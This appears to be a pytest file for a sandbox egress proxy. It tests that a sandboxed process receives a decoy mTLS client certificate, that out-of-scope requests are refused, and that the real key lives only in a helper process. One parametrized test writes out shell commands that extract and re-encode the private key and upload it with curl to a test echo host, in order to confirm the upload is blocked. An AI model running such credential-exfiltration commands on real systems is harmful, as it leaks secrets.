"""Mutual TLS: the cell has a certificate that no server trusts, and the server sees the real one."""
import json
import re

import pytest

from egress_lab import CURL, helpers_of, needs_python
from test_egress_secrets import has
from operators import IS_STATIC, wait_until

OPEN = "  - allow: '*.example.test'\n"
SAVE = 'printf %s "$CLIENT" >client.pem; '


def give(online, *options, hosts=("mtls.example.test",), order=("crt", "key")):
    keys = online.lab.folder / "keys"
    value = "".join((keys / f"client.{end}").read_text() for end in order)
    hosts = [word for host in hosts for word in ("--host", host)]
    online.operator.cloister("secret", "add", "CLIENT", "--scheme", "mtls", *hosts, *options,
                             input=value).ok()
    return value


def sh(online, script, rules=OPEN):
    return online.sh(rules, SAVE + script, options=("-s", "CLIENT"))


def fetch(*words):
    return " ".join([*CURL, *words]) + "; "


def body_of(pem, kind):
    """The base64 of a block."""
    return re.search(f"-----BEGIN {kind}-----\n(.*?)-----END", pem, re.S)[1].replace("\n", "")


@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
@pytest.mark.parametrize("port, order", [(443, ("crt", "key")), (8443, ("key", "crt"))])
def test_the_real_one_is_shown(online, version, port, order):
    real = give(online, order=order, hosts=(f"mtls.example.test:{port}",))
    done = sh(online, fetch(version, f"--cert client.pem https://mtls.example.test:{port}/x") +
              "cat client.pem", rules=f"  - allow: '*.example.test'\n    ports: [{port}]\n")
    said, _, fake = done.ok().partition("\n")
    assert said == f"CN=the real client SUCCESS HTTP/{'2.0' if port == 443 else '1.1'}"
    # Of the same kind and order, and another one.
    assert [line for line in fake.splitlines() if "-----" in line] == \
        [line for line in real.splitlines() if "-----" in line]
    for kind in ("CERTIFICATE", "PRIVATE KEY"):
        assert body_of(real, kind) not in body_of(fake, kind)
    event, = online.events(type="http")
    assert event["verdict"] == "allow" and event["status"] == 200


@needs_python("requests")
def test_a_library_shows_it(online):
    give(online)
    script = ("import os, requests\nopen('c.pem', 'w').write(os.environ['CLIENT'])\n"
              "with requests.Session() as s:\n    s.cert = 'c.pem'\n"
              "    print([s.get(f'https://mtls.example.test/{n}').text for n in range(3)])\n")
    done = online.python(OPEN, script, options=("-s", "CLIENT"))
    assert done.ok().count("CN=the real client SUCCESS") == 3


def test_clients_without_the_certificate_get_none(online):
    """Neither a client without a certificate, nor one with another, nor on a connection that was made with it."""
    give(online, hosts=("mtls.example.test", "maybe.example.test"))
    there = "https://maybe.example.test/x"
    done = sh(online, fetch("--cert client.pem", there) + fetch(there) +
              fetch("--cert client.pem", there) + fetch("https://mtls.example.test/x") +
              "openssl req -x509 -newkey rsa:2048 -nodes -keyout k -out c -subj /CN=me 2>/dev/null;" +
              fetch("--cert c --key k", there))
    first, none, again, *refused, other = done.ok().splitlines()
    assert first.startswith("SUCCESS") and again.startswith("SUCCESS")
    assert none.startswith("NONE") and other.startswith("NONE")
    assert "No required SSL certificate was sent" in "".join(refused)
    # Connections are kept: the two with it used one, and the others another.
    assert first.split()[1] == again.split()[1] and none.split()[1] == other.split()[1]


def test_a_request_that_is_not_in_its_scope(online):
    give(online, "--path", "/v1/**", "--method", "GET", hosts=("maybe.example.test",))
    done = sh(online, fetch("--cert client.pem https://maybe.example.test/v1/x") +
              fetch("--cert client.pem https://maybe.example.test/v2/x") +
              fetch("--cert client.pem -d x=y https://maybe.example.test/v1/x") +
              fetch("https://maybe.example.test/v2/x"))
    good, path, method, without = done.ok().splitlines()
    assert good.startswith("SUCCESS") and without.startswith("NONE")
    for said in (path, method):
        assert "the certificate 'CLIENT'" in json.loads(said)["reason"]
    assert [e["why"] for e in online.events(verdict="deny")] == ["exfiltration"] * 2


def test_another_host_is_shown_nothing(online):
    give(online, hosts=("mtls.example.test",))
    done = sh(online, fetch("--cert client.pem https://maybe.example.test/x"))
    assert done.ok().startswith("NONE")


@pytest.mark.parametrize("words", [
    "--data-binary @client.pem", "--data-urlencode k@client.pem", "--data-binary @key",
    "--data-binary @crlf", "--data-binary @joined", "-H 'content-type: application/json' "
    "--data-binary @json", "--data-binary @cert", "--data-binary @coded",
])
def test_its_text_does_not_leave(online, words):
    give(online)
    done = sh(online, "sed -n '/PRIVATE/,/PRIVATE/p' client.pem >key; sed 's/$/\\r/' key >crlf; "
              "grep -v -- ----- key | tr -d '\\n' >joined; base64 -w0 <key >coded; "
              "sed -n '/CERTIF/,/CERTIF/p' client.pem >cert; "
              "/usr/bin/python3 -c 'import json; print(json.dumps(open(\"key\").read()))' >json; "
              + fetch(words, "https://up.example.test/echo"))
    assert "placeholder of the secret 'CLIENT'" in json.loads(done.ok())["reason"]
    assert online.refusal()["why"] == "exfiltration"


@pytest.mark.parametrize("value, why", [
    ("crt", "not a certificate and its private key"), ("key", "not a certificate and its private key"),
    ("good.crt client.key", "not that of the first certificate"),
])
def test_values_that_are_not_a_certificate_with_its_key(online, value, why):
    keys = online.lab.folder / "keys"
    names = value.split() if " " in value else [f"client.{value}"]
    online.operator.cloister("secret", "add", "CLIENT", "--scheme", "mtls", "--host", "mtls.example.test",
                             input="".join((keys / name).read_text() for name in names)).sentence(why)


@pytest.mark.skipif(not IS_STATIC, reason="a sanitizer's processes look different")
def test_the_key_is_in_no_process_but_the_courier(online):
    real = give(online)
    part = body_of(real, "PRIVATE KEY")[64:128].encode()
    online.start(OPEN, "sh", "-c", SAVE + "curl -sS --cert client.pem https://mtls.example.test/x >done; "
                 "echo; sleep 600", options=("-s", "CLIENT"))
    wait_until(lambda: online.events(type="http"), "a request")
    try:
        holders = {pid for pid in online.operator.pids(online.cell) if has(pid, part)}
    except OSError:
        pytest.skip("only root may look into processes")
    assert holders == {helpers_of(online.operator, online.cell)["courier"]}
